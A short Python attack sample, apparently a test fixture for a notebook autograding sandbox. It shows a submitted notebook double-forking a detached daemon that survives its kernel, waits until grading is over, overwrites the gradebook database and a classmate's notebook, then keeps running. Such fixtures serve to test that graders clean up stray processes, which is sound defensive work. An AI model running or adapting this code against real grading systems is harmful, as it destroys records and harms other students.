# attack: a process left behind
# A blank notebook double-forks a daemon that outlives its kernel: it waits until grading is
# over, then rewrites the gradebook and a classmate's notebook, and keeps running.
import os
import time
from pathlib import Path

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(__DELAY__)
        for path in (Path(__COURSE__) / "gradebook.db",
                     Path(__COURSE__) / "submitted" / "victim_full" / __CHAPTER__
                     / f"{__CHAPTER__}.ipynb"):
            try:
                path.write_text("overwritten after grading")
            except Exception:
                pass
        while True:
            time.sleep(1)
    os._exit(0)
print("daemon started")
